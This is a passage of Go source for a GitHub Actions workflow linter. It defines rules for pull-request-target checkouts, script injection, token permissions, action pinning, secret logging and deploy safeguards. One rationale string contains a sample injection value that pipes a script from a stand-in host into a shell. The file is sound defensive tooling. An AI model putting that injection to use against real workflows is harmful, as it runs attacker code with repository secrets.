package check

import (
	"bytes"
	"strings"
	"unicode/utf8"

	"go.yaml.in/yaml/v3"

	"github.com/opsloop/opsloop/internal/check/tree"
)

// GitHub Actions workflow rules. Job findings are scoped to the job's key
// line, so "# opsloop:ignore GHA008 reason" above a job covers the job.
//
// Pinning (GHA005, GHA006): actions of the actions/ and github/ owners are
// maintained by GitHub and protected by its release process, so an
// unpinned reference to them is low severity (GHA006); any other owner's
// tag can be moved by whoever controls that repository, as happened with
// tj-actions/changed-files in 2025, so it is medium (GHA005).

func init() {
	register(
		&Rule{
			ID:        "GHA001",
			Name:      "actions-pwn-request",
			Title:     "Privileged workflow checks out pull request code",
			Severity:  SeverityCritical,
			Family:    FamilySecurity,
			Rationale: "pull_request_target and workflow_run run with the base repository's secrets and a write token; checking out the pull request's head lets anyone who opens a pull request run code (build scripts, tests, package hooks) with those privileges.",
			Remediation: "Run untrusted code in a pull_request workflow, which gets no secrets, and pass results to a privileged workflow as artifacts; " +
				"if the head must be built here, gate the job on `if: github.event.pull_request.head.repo.full_name == github.repository`.",
			Formats:  []Format{FormatActions},
			Document: ghaPwnRequest,
		},
		&Rule{
			ID:        "GHA002",
			Name:      "actions-script-injection",
			Title:     "Attacker-controlled expression in a script",
			Severity:  SeverityHigh,
			Family:    FamilySecurity,
			Rationale: "${{ }} expressions are pasted into the script before the shell runs it, so an issue title, branch name or commit message such as `a\"; curl evil.sh | sh; \"` executes as code with the job's token and secrets.",
			Remediation: "Pass the value through an environment variable and quote it: " +
				"`env: {TITLE: \"${{ github.event.issue.title }}\"}` and `run: echo \"$TITLE\"`; in github-script read context.payload instead.",
			Formats:  []Format{FormatActions},
			Document: ghaScriptInjection,
		},
		&Rule{
			ID:          "GHA003",
			Name:        "actions-write-all",
			Title:       "Workflow or job grants write-all permissions",
			Severity:    SeverityHigh,
			Family:      FamilySecurity,
			Rationale:   "write-all gives GITHUB_TOKEN write access to code, packages, releases and workflows; any compromised step or dependency can then push to the repository or publish artifacts.",
			Remediation: "Grant only what the job needs, e.g. `permissions: {contents: read, packages: write}`.",
			Formats:     []Format{FormatActions},
			Document:    ghaWriteAll,
		},
		&Rule{
			ID:          "GHA004",
			Name:        "actions-missing-permissions",
			Title:       "Job runs with the default GITHUB_TOKEN permissions",
			Severity:    SeverityMedium,
			Family:      FamilySecurity,
			Rationale:   "Without a permissions block the token gets the repository or organisation default, which is read-write on older repositories; least privilege has to be written down to survive settings changes.",
			Remediation: "Add `permissions: {contents: read}` at the top of the workflow and widen it per job where needed.",
			Formats:     []Format{FormatActions},
			Document:    ghaMissingPermissions,
		},
		&Rule{
			ID:          "GHA005",
			Name:        "actions-unpinned-third-party",
			Title:       "Third-party action not pinned to a commit SHA",
			Severity:    SeverityMedium,
			Family:      FamilySecurity,
			Rationale:   "Tags and branches can be moved by whoever controls the action's repository; a hijacked tag runs new code in your workflow with its token and secrets on the next run.",
			Remediation: "Pin to the full commit SHA and keep the tag as a comment: `uses: owner/action@3f1c0a8b9d2e4f6a7b8c9d0e1f2a3b4c5d6e7f80 # v4.2.0`; Dependabot updates such pins.",
			Formats:     []Format{FormatActions},
			Document:    func(c *Context, d *Document) { ghaUnpinned(c, d, false) },
		},
		&Rule{
			ID:          "GHA006",
			Name:        "actions-unpinned-github",
			Title:       "GitHub-maintained action not pinned to a commit SHA",
			Severity:    SeverityLow,
			Family:      FamilySecurity,
			Rationale:   "Actions of the actions/ and github/ owners are maintained by GitHub, but their tags are still mutable; pinning makes builds reproducible and survives an account compromise.",
			Remediation: "Pin to the commit SHA of the release: `uses: actions/checkout@<40-hex-sha> # v4.2.2`.",
			Formats:     []Format{FormatActions},
			Document:    func(c *Context, d *Document) { ghaUnpinned(c, d, true) },
		},
		&Rule{
			ID:          "GHA007",
			Name:        "actions-secret-in-log",
			Title:       "Secret printed to the job log",
			Severity:    SeverityMedium,
			Family:      FamilySecurity,
			Rationale:   "GitHub masks a secret's exact value only; printing it encoded, split or multi-line puts it in the log in clear text for everyone with read access, and the interpolation also writes it into the script file on the runner.",
			Remediation: "Do not echo secrets; pipe them straight to the consumer (`echo \"$TOKEN\" | docker login --password-stdin`) with the secret passed through `env:`.",
			Formats:     []Format{FormatActions},
			Document:    ghaSecretInLog,
		},
		&Rule{
			ID:          "GHA008",
			Name:        "actions-job-timeout",
			Title:       "Job has no timeout-minutes",
			Severity:    SeverityLow,
			Family:      FamilyReliability,
			Rationale:   "A job without timeout-minutes runs for up to six hours when a test or deploy hangs, holding a runner and blocking the queue and concurrency groups behind it.",
			Remediation: "Set a bound a little above the normal duration: `timeout-minutes: 20`.",
			Formats:     []Format{FormatActions},
			Document:    ghaJobTimeout,
		},
		&Rule{
			ID:          "GHA009",
			Name:        "actions-deploy-environment",
			Title:       "Deploy job without an environment",
			Severity:    SeverityMedium,
			Family:      FamilySecurity,
			Rationale:   "An environment is what gives a deploy required reviewers, branch restrictions, environment-scoped secrets and a deployment history; without one any branch that can run the workflow can deploy.",
			Remediation: "Declare the target: `environment: {name: production, url: https://app.example.com}` and configure its protection rules in the repository settings.",
			Formats:     []Format{FormatActions},
			Document:    ghaDeployEnvironment,
		},
		&Rule{
			ID:          "GHA010",
			Name:        "actions-deploy-concurrency",
			Title:       "Deploy workflow without concurrency",
			Severity:    SeverityLow,
			Family:      FamilyReliability,
			Rationale:   "Two pushes in quick succession start two deploys that race; the older one can finish last and roll production back.",
			Remediation: "Serialise deploys per target: `concurrency: {group: deploy-production, cancel-in-progress: false}` at the workflow or job.",
			Formats:     []Format{FormatActions},
			Document:    ghaDeployConcurrency,
		},
		&Rule{
			ID:          "GHA011",
			Name:        "actions-self-hosted-pull-request",
			Title:       "Self-hosted runner runs pull request code",
			Severity:    SeverityMedium,
			Family:      FamilySecurity,
			Rationale:   "On a public repository anyone can open a pull request whose code then runs on your self-hosted runner, which is not wiped between jobs and often sits inside your network.",
			Remediation: "Use GitHub-hosted or ephemeral runners for pull_request jobs, or gate the job on `if: github.event.pull_request.head.repo.full_name == github.repository`.",
			Formats:     []Format{FormatActions},
			Document:    ghaSelfHostedPR,
		},
		&Rule{
			ID:          "GHA012",
			Name:        "actions-checkout-credentials-artifact",
			Title:       "Checkout credentials can leak through an uploaded artifact",
			Severity:    SeverityLow,
			Family:      FamilySecurity,
			Rationale:   "actions/checkout stores the token in .git/config unless persist-credentials is false; a job that uploads its whole workspace with hidden files publishes that token to everyone who can download artifacts.",
			Remediation: "Set `with: {persist-credentials: false}` on the checkout, and upload only the build output path.",
			Formats:     []Format{FormatActions},
			Document:    ghaCheckoutArtifact,
		},
		&Rule{
			ID:          "GHA013",
			Name:        "actions-insecure-commands",
			Title:       "Deprecated set-env and add-path commands are enabled",
			Severity:    SeverityHigh,
			Family:      FamilySecurity,
			Rationale:   "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables workflow commands that let anything printed to the log set environment variables and PATH, so untrusted output can inject code into later steps.",
			Remediation: "Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to the $GITHUB_ENV and $GITHUB_PATH files instead.",
			Formats:     []Format{FormatActions},
			Document:    ghaInsecureCommands,
		},
	)
}

// ghaJob is one job of a workflow.
type ghaJob struct {
	ID   string
	Key  *tree.Node
	Node *tree.Node
}

func (j ghaJob) ref() Object { return Object{Kind: "Job", Name: j.ID} }

// ghaJobs returns the jobs of a workflow in order.
func ghaJobs(root *tree.Node) []ghaJob {
	pairs := root.Get("jobs").Pairs()
	out := make([]ghaJob, 0, len(pairs))
	for _, p := range pairs {
		if p.Value.IsMap() {
			out = append(out, ghaJob{ID: p.Key, Key: p.KeyN, Node: p.Value})
		}
	}
	return out
}

// ghaWorkflowRef names the workflow for findings outside jobs; the file
// is part of every finding already.
func ghaWorkflowRef(d *Document) Object {
	return Object{Kind: "Workflow", Name: d.Root.Get("name").Str()}
}

// ghaTriggers returns the events that start a workflow. YAML 1.1 readers
// turn the key on into true; both spellings are read.
func ghaTriggers(root *tree.Node) map[string]bool {
	on := root.Get("on")
	if !on.Exists() {
		on = root.Get("true")
	}
	out := map[string]bool{}
	switch {
	case on.IsScalar():
		out[on.Str()] = true
	case on.IsSeq():
		for _, s := range on.Strings() {
			out[s] = true
		}
	case on.IsMap():
		for _, k := range on.Keys() {
			out[k] = true
		}
	}
	return out
}

// ghaUses splits a uses: value into the action (owner/repo[/path]) and ref.
func ghaUses(uses string) (action, ref string) {
	action, ref, _ = strings.Cut(strings.TrimSpace(uses), "@")
	return action, ref
}

// ghaUsesAction reports whether a step uses owner/repo (any ref).
func ghaUsesAction(step *tree.Node, action string) bool {
	a, _ := ghaUses(step.Get("uses").Str())
	return strings.EqualFold(a, action)
}

// ghaSameRepoGuard reports whether a job only runs for pull requests from
// the repository itself, which closes fork-based attacks.
func ghaSameRepoGuard(job *tree.Node) bool {
	cond := strings.ReplaceAll(job.Get("if").Str(), " ", "")
	return strings.Contains(cond, "head.repo.full_name==github.repository") ||
		strings.Contains(cond, "github.repository==github.event.pull_request.head.repo.full_name") ||
		strings.Contains(cond, "head.repo.fork==false") ||
		strings.Contains(cond, "!github.event.pull_request.head.repo.fork")
}

// ghaSkipsPullRequest reports whether a job's condition keeps it from
// running for pull_request events.
func ghaSkipsPullRequest(job *tree.Node) bool {
	cond := strings.NewReplacer(" ", "", `"`, "'").Replace(job.Get("if").Str())
	return strings.Contains(cond, "github.event_name=='push'") ||
		strings.Contains(cond, "github.event_name!='pull_request'") ||
		strings.Contains(cond, "github.event_name=='schedule'") ||
		strings.Contains(cond, "github.event_name=='workflow_dispatch'")
}

// ghaExpr is one ${{ }} expression in a string: its offset and the text
// between the braces.
type ghaExpr struct {
	off, end int
	inner    string
}

// ghaExprs finds the expressions in s.
func ghaExprs(s string) []ghaExpr {
	var out []ghaExpr
	for from := 0; ; {
		i := strings.Index(s[from:], "${{")
		if i < 0 {
			return out
		}
		i += from
		j := strings.Index(s[i+3:], "}}")
		if j < 0 {
			return out
		}
		end := i + 3 + j + 2
		out = append(out, ghaExpr{off: i, end: end, inner: s[i+3 : end-2]})
		from = end
	}
}

// ghaContextRef is a context path used in an expression, normalised to
// lower case with indexes as "*": github.event.commits.*.message.
type ghaContextRef struct {
	path string
	// text is the reference as written, for messages.
	text string
	// boolean is true when the value only feeds a comparison or a
	// contains/startsWith/endsWith call, whose result is a boolean.
	boolean bool
}

// ghaRefs extracts the context paths an expression reads.
func ghaRefs(expr string) []ghaContextRef {
	var out []ghaContextRef
	lower := ghaASCIILower(expr)
	for i := 0; i < len(lower); {
		ch := lower[i]
		switch {
		case ch == '\'':
			// String literal; '' escapes a quote.
			i++
			for i < len(lower) {
				if lower[i] == '\'' {
					if i+1 < len(lower) && lower[i+1] == '\'' {
						i += 2
						continue
					}
					break
				}
				i++
			}
			i++
			continue
		case ch == '_' || ch >= 'a' && ch <= 'z':
			start := i
			var b strings.Builder
			for i < len(lower) {
				c := lower[i]
				switch {
				case c == '_' || c == '-' || c == '.' || c >= 'a' && c <= 'z' || c >= '0' && c <= '9':
					b.WriteByte(c)
					i++
					continue
				case c == '*':
					b.WriteByte('*')
					i++
					continue
				case c == '[':
					end := strings.IndexByte(lower[i:], ']')
					if end < 0 {
						i = len(lower)
						continue
					}
					idx := strings.Trim(lower[i+1:i+end], `'" `)
					if idx == "" || idx == "*" || idx[0] >= '0' && idx[0] <= '9' {
						idx = "*"
					}
					b.WriteString("." + idx)
					i += end + 1
					continue
				}
				break
			}
			p := b.String()
			// A function call, not a context.
			rest := strings.TrimLeft(lower[i:], " ")
			if strings.HasPrefix(rest, "(") {
				continue
			}
			if p == "true" || p == "false" || p == "null" {
				continue
			}
			out = append(out, ghaContextRef{path: p, text: expr[start:i], boolean: ghaBooleanUse(lower, start, i)})
		default:
			i++
		}
	}
	return out
}

// ghaASCIILower lower-cases ASCII letters only, keeping byte offsets.
func ghaASCIILower(s string) string {
	b := []byte(s)
	for i, c := range b {
		if c >= 'A' && c <= 'Z' {
			b[i] = c + 'a' - 'A'
		}
	}
	return string(b)
}

// ghaBooleanUse reports whether the operand at expr[start:end] is compared
// or passed to contains, startsWith or endsWith, so that the expression
// yields a boolean rather than the text.
func ghaBooleanUse(expr string, start, end int) bool {
	after := strings.TrimLeft(expr[end:], " ")
	before := strings.TrimRight(expr[:start], " ")
	for _, op := range []string{"==", "!=", "<", ">"} {
		if strings.HasPrefix(after, op) || strings.HasSuffix(before, op) || strings.HasSuffix(before, op+"=") {
			return true
		}
	}
	// Inside contains(...), startswith(...) or endswith(...): find the
	// innermost unclosed parenthesis before start.
	depth := 0
	for i := start - 1; i >= 0; i-- {
		switch expr[i] {
		case ')':
			depth++
		case '(':
			if depth > 0 {
				depth--
				continue
			}
			fn := strings.TrimRight(expr[:i], " ")
			return strings.HasSuffix(fn, "contains") || strings.HasSuffix(fn, "startswith") || strings.HasSuffix(fn, "endswith")
		}
	}
	return false
}

// ghaTainted are the context paths an outside contributor controls, from
// GitHub's security hardening guide and public advisories.
var ghaTainted = [][]string{
	{"github", "head_ref"},
	{"github", "event", "issue", "title"},
	{"github", "event", "issue", "body"},
	{"github", "event", "pull_request", "title"},
	{"github", "event", "pull_request", "body"},
	{"github", "event", "pull_request", "head", "ref"},
	{"github", "event", "pull_request", "head", "label"},
	{"github", "event", "pull_request", "head", "repo", "default_branch"},
	{"github", "event", "comment", "body"},
	{"github", "event", "review", "body"},
	{"github", "event", "review_comment", "body"},
	{"github", "event", "discussion", "title"},
	{"github", "event", "discussion", "body"},
	{"github", "event", "pages", "*", "page_name"},
	{"github", "event", "commits", "*", "message"},
	{"github", "event", "commits", "*", "author", "email"},
	{"github", "event", "commits", "*", "author", "name"},
	{"github", "event", "head_commit", "message"},
	{"github", "event", "head_commit", "author", "email"},
	{"github", "event", "head_commit", "author", "name"},
	{"github", "event", "workflow_run", "head_branch"},
	{"github", "event", "workflow_run", "display_title"},
	{"github", "event", "workflow_run", "head_commit", "message"},
	{"github", "event", "workflow_run", "head_commit", "author", "email"},
	{"github", "event", "workflow_run", "head_commit", "author", "name"},
	{"github", "event", "workflow_run", "pull_requests", "*", "head", "ref"},
}

// ghaIsTainted reports whether a context path is a value an attacker
// controls or, with whole set (the path is serialised by toJSON), an
// object that contains one: toJSON(github.event.issue) includes the title.
func ghaIsTainted(path string, whole bool) bool {
	segs := strings.Split(path, ".")
	for _, t := range ghaTainted {
		if len(segs) > len(t) {
			continue
		}
		match := true
		for i, s := range segs {
			if s != t[i] && s != "*" && t[i] != "*" {
				match = false
				break
			}
		}
		if match && (len(segs) == len(t) || whole && len(segs) >= 2) {
			return true
		}
	}
	return false
}

// ghaScripts calls fn for each script of a job: run: values and the
// script input of actions/github-script.
func ghaScripts(job *tree.Node, fn func(step, script *tree.Node, kind string)) {
	for _, step := range job.Get("steps").Items() {
		if r := step.Get("run"); r.IsScalar() {
			fn(step, r, "run")
		}
		if a, _ := ghaUses(step.Get("uses").Str()); strings.EqualFold(a, "actions/github-script") {
			if s := step.Get("with", "script"); s.IsScalar() {
				fn(step, s, "github-script")
			}
		}
	}
}

func ghaScriptInjection(c *Context, d *Document) {
	for _, job := range ghaJobs(d.Root) {
		c.Scope(job.Key.Pos().Line)
		ghaScripts(job.Node, func(_, script *tree.Node, kind string) {
			val := script.Str()
			for _, e := range ghaExprs(val) {
				whole := strings.Contains(strings.ToLower(e.inner), "tojson(")
				for _, r := range ghaRefs(e.inner) {
					if r.boolean || !ghaIsTainted(r.path, whole) {
						continue
					}
					c.ReportAt(ghaScalarPos(d, script, e.off), job.ref(), "job %q interpolates attacker-controlled %s into a %s script", job.ID, r.text, kind)
					break
				}
			}
		})
	}
}

// ghaHeadRefs are expressions that name the pull request's head commit.
var ghaHeadRefs = []string{
	"github.event.pull_request.head.sha",
	"github.event.pull_request.head.ref",
	"github.event.pull_request.merge_commit_sha",
	"github.event.pull_request.head.repo.full_name",
	"github.event.workflow_run.head_sha",
	"github.event.workflow_run.head_branch",
	"github.event.workflow_run.head_repository.full_name",
	"github.head_ref",
}

// ghaNamesHead reports whether s checks out the pull request's head: an
// expression reading one of ghaHeadRefs, or a refs/pull/ ref.
func ghaNamesHead(s string) (string, int) {
	for _, e := range ghaExprs(s) {
		for _, r := range ghaRefs(e.inner) {
			for _, h := range ghaHeadRefs {
				if r.path == h {
					return h, e.off
				}
			}
		}
	}
	if i := strings.Index(s, "refs/pull/"); i >= 0 {
		return "a refs/pull/ ref", i
	}
	if i := strings.Index(s, " pull/"); i >= 0 {
		return "a pull/ ref", i + 1
	}
	return "", -1
}

func ghaPwnRequest(c *Context, d *Document) {
	tr := ghaTriggers(d.Root)
	if !tr["pull_request_target"] && !tr["workflow_run"] {
		return
	}
	event := "pull_request_target"
	if !tr[event] {
		event = "workflow_run"
	}
	for _, job := range ghaJobs(d.Root) {
		if ghaSameRepoGuard(job.Node) {
			continue
		}
		c.Scope(job.Key.Pos().Line)
		for _, step := range job.Node.Get("steps").Items() {
			if ghaUsesAction(step, "actions/checkout") {
				for _, in := range []string{"ref", "repository"} {
					n := step.Get("with", in)
					if h, off := ghaNamesHead(n.Str()); h != "" {
						c.ReportAt(ghaScalarPos(d, n, off), job.ref(), "job %q of a %s workflow checks out the pull request head (%s) with the base repository's secrets", job.ID, event, h)
						break
					}
				}
				continue
			}
			run := step.Get("run")
			script := run.Str()
			for _, cmd := range splitShell(script) {
				if !ghaCheckoutCmd(&cmd) {
					continue
				}
				h, off := ghaNamesHead(cmd.text)
				if h == "" && cmd.argv0 == "gh" {
					h, off = "gh pr checkout", cmd.argOff-cmd.off
				}
				if h != "" {
					c.ReportAt(ghaScalarPos(d, run, cmd.off+off), job.ref(), "job %q of a %s workflow checks out the pull request head (%s) with the base repository's secrets", job.ID, event, h)
				}
			}
		}
	}
}

// ghaCheckoutCmd reports whether a shell command fetches or switches to
// another revision: git checkout/fetch/switch/pull or gh pr checkout.
func ghaCheckoutCmd(c *shellCmd) bool {
	if len(c.words) < 2 {
		return false
	}
	switch c.argv0 {
	case "git":
		switch c.words[1] {
		case "checkout", "fetch", "switch", "pull", "worktree":
			return true
		}
	case "gh":
		return c.words[1] == "pr" && len(c.words) > 2 && c.words[2] == "checkout"
	}
	return false
}

func ghaWriteAll(c *Context, d *Document) {
	if p := d.Root.Get("permissions"); p.Str() == "write-all" {
		c.Report(p, ghaWorkflowRef(d), "workflow grants write-all permissions to every job")
	}
	for _, job := range ghaJobs(d.Root) {
		if p := job.Node.Get("permissions"); p.Str() == "write-all" {
			c.Scope(job.Key.Pos().Line)
			c.Report(p, job.ref(), "job %q grants write-all permissions", job.ID)
		}
	}
}

func ghaMissingPermissions(c *Context, d *Document) {
	if d.Root.Has("permissions") {
		return
	}
	// A reusable workflow gets its token from the caller, whose
	// permissions cap it.
	if tr := ghaTriggers(d.Root); len(tr) == 1 && tr["workflow_call"] {
		return
	}
	for _, job := range ghaJobs(d.Root) {
		if job.Node.Has("permissions") {
			continue
		}
		c.Scope(job.Key.Pos().Line)
		c.Report(job.Key, job.ref(), "job %q sets no permissions and the workflow has no top-level permissions, so GITHUB_TOKEN gets the repository default", job.ID)
	}
}

// ghaIsCommitSHA reports whether ref is a full 40-hex commit id.
func ghaIsCommitSHA(ref string) bool {
	if len(ref) != 40 {
		return false
	}
	for i := 0; i < len(ref); i++ {
		c := ref[i]
		if (c < '0' || c > '9') && (c < 'a' || c > 'f') && (c < 'A' || c > 'F') {
			return false
		}
	}
	return true
}

// ghaUsesNodes calls fn for every uses: of steps and of jobs that call
// reusable workflows.
func ghaUsesNodes(root *tree.Node, fn func(job ghaJob, uses *tree.Node)) {
	for _, job := range ghaJobs(root) {
		if u := job.Node.Get("uses"); u.IsScalar() {
			fn(job, u)
		}
		for _, step := range job.Node.Get("steps").Items() {
			if u := step.Get("uses"); u.IsScalar() {
				fn(job, u)
			}
		}
	}
}

func ghaUnpinned(c *Context, d *Document, firstParty bool) {
	ghaUsesNodes(d.Root, func(job ghaJob, uses *tree.Node) {
		v := strings.TrimSpace(uses.Str())
		if v == "" || strings.HasPrefix(v, "./") || strings.HasPrefix(v, ".\\") {
			return
		}
		if img, ok := strings.CutPrefix(v, "docker://"); ok {
			if firstParty || strings.Contains(img, "@sha256:") {
				return
			}
			c.Scope(job.Key.Pos().Line)
			c.Report(uses, job.ref(), "job %q runs container %s by tag, not by digest", job.ID, img)
			return
		}
		action, ref := ghaUses(v)
		owner, _, _ := strings.Cut(strings.ToLower(action), "/")
		if (owner == "actions" || owner == "github") != firstParty || ghaIsCommitSHA(ref) {
			return
		}
		c.Scope(job.Key.Pos().Line)
		if ref == "" {
			c.Report(uses, job.ref(), "job %q uses %s without any ref", job.ID, action)
			return
		}
		c.Report(uses, job.ref(), "job %q uses %s@%s, a movable ref, not a commit SHA", job.ID, action, ref)
	})
}

// ghaLogTransforms print their input in another form, which log masking
// does not recognise.
var ghaLogTransforms = map[string]bool{
	"base64": true, "xxd": true, "od": true, "hexdump": true, "rev": true, "tee": true, "cat": true, "tr": true, "sed": true,
}

// ghaRedirected reports whether a command's output goes to a file rather
// than the log.
func ghaRedirected(text string) bool {
	t := strings.NewReplacer("2>&1", "", ">&2", "", ">&1", "").Replace(text)
	return strings.Contains(t, ">")
}

func ghaSecretInLog(c *Context, d *Document) {
	for _, job := range ghaJobs(d.Root) {
		c.Scope(job.Key.Pos().Line)
		for _, step := range job.Node.Get("steps").Items() {
			run := step.Get("run")
			script := run.Str()
			if !strings.Contains(script, "${{") {
				continue
			}
			cmds := splitShell(script)
			for i := range cmds {
				cmd := &cmds[i]
				switch cmd.argv0 {
				case "echo", "printf", "print", "Write-Host", "Write-Output":
				default:
					continue
				}
				if strings.Contains(cmd.text, "::add-mask::") {
					continue
				}
				// Where does the output go? The end of the pipeline, unless
				// a consumer such as docker login reads it.
				end := i
				for end+1 < len(cmds) && cmds[end+1].piped {
					end++
					if !ghaLogTransforms[cmds[end].argv0] {
						end = -1
						break
					}
				}
				if end < 0 || ghaRedirected(cmds[end].text) {
					continue
				}
				for _, e := range ghaExprs(cmd.text) {
					for _, r := range ghaRefs(e.inner) {
						if strings.HasPrefix(r.path, "secrets.") || r.path == "github.token" || r.path == "secrets" {
							c.ReportAt(ghaScalarPos(d, run, cmd.off+e.off), job.ref(), "job %q prints %s to the log with %s", job.ID, r.text, cmd.argv0)
							break
						}
					}
				}
			}
		}
	}
}

func ghaJobTimeout(c *Context, d *Document) {
	for _, job := range ghaJobs(d.Root) {
		// Jobs that call a reusable workflow cannot set a timeout; the
		// called workflow's jobs do.
		if job.Node.Has("timeout-minutes") || job.Node.Has("uses") {
			continue
		}
		c.Scope(job.Key.Pos().Line)
		c.Report(job.Key, job.ref(), "job %q has no timeout-minutes and can run for 6 hours", job.ID)
	}
}

// ghaDeployActions are actions that deploy.
var ghaDeployActions = map[string]bool{
	"azure/k8s-deploy": true, "azure/webapps-deploy": true, "azure/functions-action": true,
	"aws-actions/amazon-ecs-deploy-task-definition": true, "google-github-actions/deploy-cloudrun": true,
	"google-github-actions/deploy-appengine": true, "actions/deploy-pages": true,
}

// ghaDeployReason says why a job looks like a deploy, or "".
func ghaDeployReason(job ghaJob) string {
	for _, name := range []string{job.ID, job.Node.Get("name").Str()} {
		for _, w := range strings.FieldsFunc(strings.ToLower(name), func(r rune) bool {
			return (r < 'a' || r > 'z') && (r < '0' || r > '9')
		}) {
			if strings.HasPrefix(w, "deploy") {
				return "its name says deploy"
			}
		}
	}
	for _, step := range job.Node.Get("steps").Items() {
		a, _ := ghaUses(step.Get("uses").Str())
		if ghaDeployActions[strings.ToLower(a)] {
			return "it uses " + a
		}
		for _, cmd := range splitShell(step.Get("run").Str()) {
			if r := ghaDeployCommand(&cmd); r != "" {
				return "it runs " + r
			}
		}
	}
	return ""
}

// ghaDeployCommand returns "kubectl apply" and the like when c changes a live
// environment, or "".
func ghaDeployCommand(c *shellCmd) string {
	if len(c.words) < 2 || c.hasWord("--dry-run", "--dry-run=client", "--dry-run=server", "diff", "template", "lint") {
		return ""
	}
	sub := strings.Trim(c.words[1], `"'`)
	var ok bool
	switch c.argv0 {
	case "kubectl":
		ok = sub == "apply" || sub == "rollout" || sub == "replace" || sub == "set" || sub == "create"
	case "helm", "helmfile":
		ok = sub == "upgrade" || sub == "install" || sub == "apply" || sub == "sync"
	case "terraform", "tofu", "terragrunt":
		ok = sub == "apply" || sub == "destroy"
	case "pulumi":
		ok = sub == "up"
	case "flyctl", "fly", "serverless", "sls", "cdk", "kamal":
		ok = sub == "deploy"
	case "gcloud":
		ok = c.hasWord("deploy")
	case "aws":
		ok = c.hasWord("update-service", "deploy", "create-deployment")
	case "az":
		ok = c.hasWord("deploy") || c.hasWord("deployment")
	}
	if !ok {
		return ""
	}
	return c.argv0 + " " + sub
}

func ghaDeployEnvironment(c *Context, d *Document) {
	for _, job := range ghaJobs(d.Root) {
		if job.Node.Has("environment") || job.Node.Has("uses") {
			continue
		}
		if r := ghaDeployReason(job); r != "" {
			c.Scope(job.Key.Pos().Line)
			c.Report(job.Key, job.ref(), "job %q deploys (%s) without an environment", job.ID, r)
		}
	}
}

func ghaDeployConcurrency(c *Context, d *Document) {
	if d.Root.Has("concurrency") {
		return
	}
	for _, job := range ghaJobs(d.Root) {
		if job.Node.Has("concurrency") {
			continue
		}
		if r := ghaDeployReason(job); r != "" {
			c.Scope(job.Key.Pos().Line)
			c.Report(job.Key, job.ref(), "job %q deploys (%s) but neither it nor the workflow sets concurrency, so deploys can overlap", job.ID, r)
		}
	}
}

func ghaSelfHostedPR(c *Context, d *Document) {
	if !ghaTriggers(d.Root)["pull_request"] {
		return
	}
	for _, job := range ghaJobs(d.Root) {
		if ghaSameRepoGuard(job.Node) || ghaSkipsPullRequest(job.Node) {
			continue
		}
		ro := job.Node.Get("runs-on")
		labels := []*tree.Node{ro}
		switch {
		case ro.IsSeq():
			labels = ro.Items()
		case ro.IsMap():
			labels = ro.Get("labels").Items()
			if l := ro.Get("labels"); l.IsScalar() {
				labels = []*tree.Node{l}
			}
		}
		for _, l := range labels {
			if strings.EqualFold(l.Str(), "self-hosted") {
				c.Scope(job.Key.Pos().Line)
				c.Report(l, job.ref(), "job %q runs pull request code on a self-hosted runner", job.ID)
				break
			}
		}
	}
}

// ghaUploadsWorkspace reports whether an upload-artifact step can include
// .git/config: the whole workspace, or hidden files asked for.
func ghaUploadsWorkspace(step *tree.Node) bool {
	if !ghaUsesAction(step, "actions/upload-artifact") {
		return false
	}
	if step.Get("with", "include-hidden-files").True() {
		return true
	}
	_, ref := ghaUses(step.Get("uses").Str())
	old := ref == "v1" || ref == "v2" || ref == "v3" || strings.HasPrefix(ref, "v1.") || strings.HasPrefix(ref, "v2.") || strings.HasPrefix(ref, "v3.")
	if !old {
		return false
	}
	for p := range strings.SplitSeq(step.Get("with", "path").Str(), "\n") {
		switch strings.TrimSpace(p) {
		case ".", "./", "*", "**", "${{ github.workspace }}", "${{github.workspace}}":
			return true
		}
	}
	return false
}

func ghaCheckoutArtifact(c *Context, d *Document) {
	for _, job := range ghaJobs(d.Root) {
		steps := job.Node.Get("steps").Items()
		uploads := false
		for _, s := range steps {
			uploads = uploads || ghaUploadsWorkspace(s)
		}
		if !uploads {
			continue
		}
		for _, s := range steps {
			if !ghaUsesAction(s, "actions/checkout") {
				continue
			}
			if v, ok := s.Get("with", "persist-credentials").Bool(); ok && !v {
				continue
			}
			c.Scope(job.Key.Pos().Line)
			c.Report(s.Get("uses"), job.ref(), "job %q keeps the checkout token in .git/config and uploads the workspace as an artifact", job.ID)
		}
	}
}

func ghaInsecureCommands(c *Context, d *Document) {
	check := func(env *tree.Node, obj Object) {
		v := env.Get("ACTIONS_ALLOW_UNSECURE_COMMANDS")
		if b, ok := v.Bool(); ok && b {
			c.Report(v, obj, "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables set-env and add-path")
		}
	}
	check(d.Root.Get("env"), ghaWorkflowRef(d))
	for _, job := range ghaJobs(d.Root) {
		c.Scope(job.Key.Pos().Line)
		check(job.Node.Get("env"), job.ref())
		for _, s := range job.Node.Get("steps").Items() {
			check(s.Get("env"), job.ref())
		}
	}
}

// ghaScalarPos returns the position of byte offset off of the value of
// scalar n in the source. For literal block scalars (|) the value's lines
// are the source lines after the header, shifted by the block's
// indentation; for other styles the text at off is found in the source
// after the scalar's start. Without the source it returns n's position.
func ghaScalarPos(d *Document, n *tree.Node, off int) tree.Position {
	y := n.YAML()
	pos := n.Pos()
	if y == nil || off < 0 || off > len(y.Value) || d.src == nil {
		return pos
	}
	val := y.Value
	lineStart := strings.LastIndexByte(val[:off], '\n') + 1
	if y.Style&yaml.LiteralStyle != 0 {
		line := pos.Line + 1 + strings.Count(val[:off], "\n")
		src := ghaSourceLine(d.src, line)
		lineEnd := strings.IndexByte(val[lineStart:], '\n')
		if lineEnd < 0 {
			lineEnd = len(val) - lineStart
		}
		valLine := val[lineStart : lineStart+lineEnd]
		indent := ghaLeadingSpaces(src) - ghaLeadingSpaces(valLine)
		if src == "" || indent < 0 || !strings.HasPrefix(src[indent:], valLine[:min(len(valLine), len(src)-indent)]) {
			return pos
		}
		return tree.Position{Line: line, Column: indent + utf8.RuneCountInString(valLine[:off-lineStart]) + 1}
	}
	// Find the same occurrence of the text at off (up to the end of its
	// expression or line) in the source from the scalar's start.
	token := val[off:]
	if e := strings.Index(token, "}}"); e >= 0 && strings.HasPrefix(token, "${{") {
		token = token[:e+2]
	} else if e := strings.IndexAny(token, "\n \t"); e > 0 {
		token = token[:e]
	}
	if token == "" {
		return pos
	}
	nth := strings.Count(val[:off], token)
	start := ghaSourceOffset(d.src, pos)
	if start < 0 {
		return pos
	}
	rest := d.src[start:]
	at := 0
	for k := 0; ; k++ {
		i := bytes.Index(rest[at:], []byte(token))
		if i < 0 {
